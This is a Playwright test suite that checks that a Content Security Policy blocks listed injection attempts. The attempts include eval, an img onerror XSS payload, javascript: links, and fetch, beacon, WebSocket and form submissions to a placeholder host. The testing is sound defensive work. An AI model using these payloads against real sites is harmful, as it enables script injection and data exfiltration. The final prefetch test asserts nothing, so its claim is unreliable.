import { expect, test } from '@playwright/test';
import { attackedPage, tryInPage } from './attacked-page.fixture';

const attacked = attackedPage();

/** What a page may try, and the rule of the policy that stops it. */
const breaches = {
  'script-src': [
    `eval('1')`,
    `new Function('return 1')()`,
    `setTimeout('1', 0)`,
    `add('script', { textContent: 'window.wasRun = true' })`,
    `add('script', { src: 'https://ADDRESS/x.js' })`,
    `add('script', { src: 'data:text/javascript,window.wasRun=true' })`,
    `add('div', { innerHTML: '<img src="nothing:" onerror="window.wasRun=true">' })`,
    `add('a', { href: 'javascript:window.wasRun=true' }).click()`,
    `new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`
  ],
  'connect-src': [
    `fetch('http://ADDRESS/')`,
    `fetch('https://ADDRESS/')`,
    `fetch('app://hallway/main.html')`,
    `new WebSocket('ws://ADDRESS/')`,
    `new WebSocket('wss://ADDRESS/')`,
    `new EventSource('http://ADDRESS/')`,
    `navigator.sendBeacon('http://ADDRESS/', 'x')`,
    `(() => { const ask = new XMLHttpRequest(); ask.open('GET', 'http://ADDRESS/'); ask.send(); })()`
  ],
  'img-src': [
    `new Image().src = 'http://ADDRESS/beacon.png'`,
    `new Image().src = 'https://ADDRESS/beacon.png'`
  ],
  'style-src': [
    `add('style', { textContent: 'body { color: red }' })`,
    `add('link', { rel: 'stylesheet', href: 'http://ADDRESS/x.css' })`,
    `add('p', {}).setAttribute('style', 'color: red')`
  ],
  'font-src': [`new FontFace('x', 'url(http://ADDRESS/x.woff2)').load()`],
  'media-src': [`new Audio('http://ADDRESS/x.mp3').load()`],
  'object-src': [
    `add('object', { data: 'http://ADDRESS/' })`,
    `add('embed', { src: 'http://ADDRESS/' })`
  ],
  'frame-src': [
    `add('iframe', { src: 'http://ADDRESS/' })`,
    `add('iframe', { src: 'app://hallway/capture.html' })`
  ],
  'worker-src': [
    `new Worker('app://hallway/before-paint.js')`,
    `new Worker(URL.createObjectURL(new Blob(['1'])))`
  ],
  'base-uri': [
    `document.head.append(Object.assign(document.createElement('base'), { href: 'https://ADDRESS/' }))`
  ],
  'form-action': [
    `add('form', { action: 'http://ADDRESS/', method: 'post' }).submit()`,
    `add('form', { action: 'https://ADDRESS/' }).requestSubmit()`
  ]
};

for (const [rule, attempts] of Object.entries(breaches)) {
  for (const attempt of attempts) {
    test(`${rule} stops ${attempt} (S10)`, async () => {
      const outcome = await tryInPage(
        attacked.page,
        attempt.replaceAll('ADDRESS', attacked.address)
      );
      expect(outcome.rules).toContain(rule);
      expect(outcome.wasRun).toBe(false);
    });
  }
}

test('what the policy does not forbid, such as prefetching, reaches nobody either (S10)', async () => {
  for (const relation of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload'])
    await tryInPage(
      attacked.page,
      `add('link', { rel: '${relation}', as: 'image', href: 'http://${attacked.address}/' })`
    );
  await attacked.page.waitForTimeout(500);
});
